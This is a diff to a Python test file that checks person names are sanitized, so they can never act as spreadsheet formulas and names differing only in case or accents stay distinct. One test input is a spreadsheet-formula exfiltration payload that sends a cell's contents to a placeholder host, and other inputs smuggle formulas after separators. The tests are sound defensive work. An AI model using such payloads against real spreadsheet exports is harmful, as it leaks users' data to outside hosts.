@@ -1,12 +1,14 @@
 """A person's name never leaves its folder, whatever it is."""
 
+import re
 from pathlib import Path, PureWindowsPath
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from facepipe.files.names import natural_key, person_folder, safe_name
+from facepipe.files.names import natural_key, not_a_formula, person_folder, safe_name, told_apart
+from facepipe.files.removal import folded
 
 
 @given(st.text(st.characters(), max_size=400))
@@ -15,6 +17,8 @@ from facepipe.files.names import natural_key, person_folder, safe_name
 @example("a" * 300)
 @example("é" * 300)
 @example("\ud800")
+@example(". =x")
+@example("=")
 def test_any_name_is_one_harmless_component(name):
     safe = safe_name(name)
     assert safe_name(safe) == safe
@@ -39,6 +43,32 @@ def test_ordinary_names_are_kept(name):
 def test_dangerous_names_are_changed_and_stay_different(name):
     assert safe_name(name) != name
     assert safe_name(name) != safe_name(name + "?")
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@x", "=1+1", " =1", ".=1", "\t=1", "\n@x", "\uff1d1", "-",
+     "a;=1+1", "a,'+1", "== =1"],
+)  # fmt: skip
+def test_no_name_is_a_formula_in_a_spreadsheet(name):
+    safe = safe_name(name)
+    assert safe != name and safe_name(safe) == safe
+    for cell in re.split("[;,\t]", safe):
+        assert not cell.lstrip(" '\"").startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")), safe
+    assert safe_name(name) != safe_name(name + "?")
+
+
+@pytest.mark.parametrize("name", ["Jean-Luc", "Anna @ work", "A+B", "1 = 1", "_x"])
+def test_signs_inside_a_name_are_no_formula(name):
+    assert safe_name(name) == name == not_a_formula(name)
+
+
+def test_names_that_differ_in_case_or_accents_alone_are_told_apart():
+    apart = told_apart(["anna", "Ben", "Anna", "ANNA", "Zoe\u0301", "Zo\u00e9"])
+    assert apart["ANNA"] == "ANNA" and apart["Ben"] == "Ben"
+    assert len({folded(name) for name in apart.values()}) == 6
+    assert apart["anna"].startswith("anna-") and apart == told_apart(reversed(list(apart)))
+    assert all(safe_name(name) == name for name in apart.values())
 
 
 def test_unknown_has_its_own_folder():
